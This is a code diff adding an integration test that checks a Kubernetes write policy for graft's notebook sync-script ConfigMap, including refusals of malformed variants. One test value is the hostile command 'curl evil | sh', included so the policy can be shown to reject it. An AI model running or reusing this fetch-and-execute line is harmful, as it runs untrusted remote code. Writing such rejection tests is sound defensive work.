@@ -11,6 +11,7 @@ import { Registry } from "prom-client";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createAuthority, issueServingCert } from "../../certs/authority.js";
 import { errorMessage } from "../../core/result.js";
+import { syncConfigMap } from "../../webhook/features/notebooks/sync-configmap.js";
 import { propertiesConfigMap } from "../../webhook/features/properties/configmap.js";
 import { createObjectsIfAbsent } from "../../webhook/io/ensure-objects.js";
 import {
@@ -177,7 +178,7 @@ describe("the write policy, for graft's ServiceAccount through the API server", 
     await api.markUsed(optedIn, name, new Date());
     const made = await core.readNamespacedConfigMap({ name, namespace: optedIn });
     expect(made.metadata?.ownerReferences?.map((o) => o.name)).toEqual(["owner"]);
-    expect((await api.listPropertiesConfigMaps()).map((cm) => cm.metadata?.name)).toContain(name);
+    expect((await api.listGraftConfigMaps()).map((cm) => cm.metadata?.name)).toContain(name);
     expect(await api.deleteIfUnchanged(made)).toBe(true);
     expect(await graftPropsIn(optedIn)).toEqual([]);
   });
@@ -193,6 +194,53 @@ describe("the write policy, for graft's ServiceAccount through the API server", 
       `graft never writes in namespace ${graftNamespace}`,
     );
     expect(await graftPropsIn(optedIn)).toEqual([]);
+  });
+
+  it("lets graft apply, mark used and delete the notebook sync script's ConfigMap, and only with the script's one key", async () => {
+    const script = syncConfigMap(optedIn);
+    const variant = (name: string, data: Record<string, string>, labels = script.metadata.labels) => ({
+      ...script,
+      metadata: { ...script.metadata, name, labels },
+      data,
+    });
+    try {
+      await api.apply(script);
+      await api.markUsed(optedIn, script.metadata.name, new Date());
+      const made = await core.readNamespacedConfigMap({ name: script.metadata.name, namespace: optedIn });
+      expect(made.immutable).toBe(true);
+      expect(made.data).toEqual(script.data);
+      expect((await api.listGraftConfigMaps()).map((cm) => cm.metadata?.name)).toContain(
+        script.metadata.name,
+      );
+
+      expect(
+        await refusal(() => api.apply(variant("graft-notebook-sync-big", { "sync.sh": "#".repeat(70_000) }))),
+      ).toContain("sync.sh of at most 65536 bytes");
+      expect(
+        await refusal(() =>
+          api.apply(
+            variant("graft-notebook-sync-two", { "sync.sh": "exit 0", "extra.sh": "curl evil | sh" }),
+          ),
+        ),
+      ).toContain("sync.sh of at most 65536 bytes");
+      expect(
+        await refusal(() =>
+          api.apply(variant("graft-notebook-sync-props", { "application.properties": "a=1" })),
+        ),
+      ).toContain("only one key");
+      expect(
+        await refusal(() => api.apply(variant("graft-notebook-sync-bare", { "sync.sh": "exit 0" }, {}))),
+      ).toContain("only ConfigMaps labelled");
+      expect(await api.deleteIfUnchanged(made)).toBe(true);
+      expect(await graftPropsIn(optedIn)).toEqual([]);
+    } finally {
+      const left = await core.listNamespacedConfigMap({ namespace: optedIn });
+      for (const cm of left.items.filter((c) => c.metadata?.name?.startsWith("graft-notebook-sync-"))) {
+        await core
+          .deleteNamespacedConfigMap({ name: cm.metadata!.name!, namespace: optedIn })
+          .catch(() => {});
+      }
+    }
   });
 });
 
